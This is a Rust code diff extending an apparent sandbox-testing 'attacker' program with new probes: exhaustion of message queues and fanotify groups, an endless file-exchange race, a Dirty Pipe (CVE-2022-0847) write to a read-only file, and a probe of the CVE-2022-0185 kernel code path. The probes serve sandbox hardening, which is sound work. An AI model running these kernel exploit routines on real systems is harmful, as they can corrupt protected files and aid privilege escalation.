@@ -15,13 +15,17 @@ use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 use std::process::Command;
 
+use nix::mqueue::{MQ_OFlag, MqAttr, MqdT, mq_open, mq_unlink};
 use nix::sched::{CloneFlags, setns, unshare};
+use nix::sys::fanotify::{EventFFlags, Fanotify, InitFlags};
 use nix::sys::resource::{Resource, getrlimit, setrlimit};
 use nix::sys::signal::{SigEvent, SigevNotify};
 use nix::sys::timer::Timer;
 use nix::time::ClockId;
 use rustix::fs::inotify;
-use rustix::fs::{AtFlags, CWD, Mode, OFlags, mkdirat, open, openat, unlinkat};
+use rustix::fs::{
+    AtFlags, CWD, Mode, OFlags, RenameFlags, mkdirat, open, openat, renameat_with, unlinkat,
+};
 use rustix::mount::{
     FsPickFlags, MountAttrFlags, MoveMountFlags, UnmountFlags, fsconfig_reconfigure,
     fsconfig_set_flag, fspick, move_mount, unmount,
@@ -44,6 +48,9 @@ fn main() {
         ["newborns", name] => newborns(name),
         ["executable"] => executable(),
         ["below"] => below_root(),
+        ["exchange", ref pairs @ ..] => exchange_for_ever(pairs),
+        ["pipe", ref files @ ..] => files.iter().for_each(|file| write_by_pipe(file)),
+        ["context"] => open_context(),
         ["exhaust", kind, most] => exhaust(kind, most.parse().expect("a number")),
         ["--control", ref list @ ..] => print_failing(list),
         ["--one", number, ref list @ ..] => try_one(list, number.parse().expect("a number")),
@@ -72,7 +79,8 @@ fn attacks(list: &[&str]) -> Vec<Attack> {
         ["change", file] => on_executable(file),
         _ => {
             panic!(
-                "attacker: mounts, process PID, newborns NAME, executable, below, exhaust KIND MOST or change FILE"
+                "attacker: mounts, process PID, newborns NAME, executable, below, exhaust KIND MOST, \
+                 exchange A B..., pipe FILE..., context or change FILE"
             )
         }
     }
@@ -130,16 +138,19 @@ fn mounts_everywhere() {
 fn exhaust(kind: &str, most: usize) {
     let (_, hard) = getrlimit(Resource::RLIMIT_NOFILE).expect("read a limit");
     setrlimit(Resource::RLIMIT_NOFILE, hard, hard).expect("raise a limit");
-    let (mut instances, mut timers) = (Vec::new(), Vec::new());
+    let (mut instances, mut timers, mut queues) = (Vec::new(), Vec::new(), Vec::new());
+    let mut groups = Vec::new();
     match kind {
         "inotify" => {
             let all = std::iter::from_fn(|| inotify::init(inotify::CreateFlags::empty()).ok());
             instances.extend(all.take(most));
         }
         "signals" => timers.extend(std::iter::from_fn(timer).take(most)),
-        _ => panic!("attacker: exhaust inotify or signals"),
+        "queues" => queues.extend((0..most).map_while(queue)),
+        "fanotify" => groups.extend(std::iter::from_fn(group).take(most)),
+        _ => panic!("attacker: exhaust inotify, signals, queues or fanotify"),
     }
-    println!("{}", instances.len() + timers.len());
+    println!("{}", instances.len() + timers.len() + queues.len() + groups.len());
     if most == usize::MAX {
         println!("held");
         std::io::stdout().flush().expect("print");
@@ -149,10 +160,77 @@ fn exhaust(kind: &str, most: usize) {
     }
 }
 
+/// Makes a message queue of 80 KiB: mq_open(3). It is removed at once, and lives as long as the
+/// descriptor.
+fn queue(number: usize) -> Option<MqdT> {
+    let name = format!("/queue-{}-{number}", std::process::id());
+    let flags = MQ_OFlag::O_CREAT | MQ_OFlag::O_EXCL | MQ_OFlag::O_RDWR;
+    let room = MqAttr::new(0, 10, 8192, 0);
+    let made = mq_open(name.as_str(), flags, nix::sys::stat::Mode::S_IRWXU, Some(&room)).ok()?;
+    mq_unlink(name.as_str()).expect("remove it");
+    Some(made)
+}
+
+/// Makes a fanotify group as any user may: `FAN_REPORT_FID`.
+fn group() -> Option<Fanotify> {
+    Fanotify::init(InitFlags::from_bits_retain(0x200), EventFFlags::O_RDONLY).ok()
+}
+
 /// Makes a timer, which holds a queued signal in reserve: timer_create(2).
 fn timer() -> Option<Timer> {
     let event = SigEvent::new(SigevNotify::SigevNone);
     Timer::new(ClockId::CLOCK_MONOTONIC, event).ok()
+}
+
+/// Exchanges files that are named in pairs, as fast as it can, until it is killed.
+fn exchange_for_ever(pairs: &[&str]) {
+    println!("exchanging");
+    std::io::stdout().flush().expect("print");
+    loop {
+        for pair in pairs.chunks_exact(2) {
+            let exchanged = renameat_with(CWD, pair[0], CWD, pair[1], RenameFlags::EXCHANGE);
+            exchanged.unwrap_or_else(|e| panic!("exchange {pair:?}: {e}"));
+        }
+    }
+}
+
+/// Writes to a file that it may only read, as CVE-2022-0847 did: a page of the file in a pipe
+/// whose buffers were marked as ones to append to. Prints that the page was there, and whether
+/// the file has changed.
+fn write_by_pipe(file: &str) {
+    let before = fs::read(file).unwrap_or_else(|e| panic!("read {file}: {e}"));
+    let (reader, writer) = rustix::pipe::pipe().expect("make a pipe");
+    let size = rustix::pipe::fcntl_getpipe_size(&writer).expect("its size");
+    let mut page = vec![0; 4096];
+    for _ in 0..size / page.len() {
+        rustix::io::write(&writer, &page).expect("fill the pipe");
+    }
+    for _ in 0..size / page.len() {
+        rustix::io::read(&reader, &mut page).expect("drain the pipe");
+    }
+    let source = File::open(file).expect("open it for reading");
+    let flags = rustix::pipe::SpliceFlags::empty();
+    let moved = rustix::pipe::splice(&source, None, &writer, None, 1, flags).expect("splice");
+    rustix::io::write(&writer, b"dirty").expect("write behind it");
+    let got = rustix::io::read(&reader, &mut page).expect("read the first buffer");
+    println!("spliced {moved} of {file}: {}", got > 0 && page[0] == before[0]);
+    if fs::read(file).expect("read it again") != before {
+        println!("changed {file}");
+    }
+}
+
+/// Comes to the code in which CVE-2022-0185 was: a new file system's options, which take
+/// CAP_SYS_ADMIN in any user namespace. Prints how far it came.
+fn open_context() {
+    if unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS).is_err() {
+        return;
+    }
+    println!("root of a user namespace");
+    let Ok(context) = FsContext::open("tmpfs") else { return };
+    println!("opened a context");
+    // Many options that are not known to the file system, whose lengths were added up.
+    let accepted = (0..64).filter(|_| context.string("\u{1}", "A".repeat(255)).is_ok()).count();
+    println!("{accepted} unknown options were kept");
 }
 
 /// Tries to come to what lies below the root in this mount namespace: the sandbox's own.
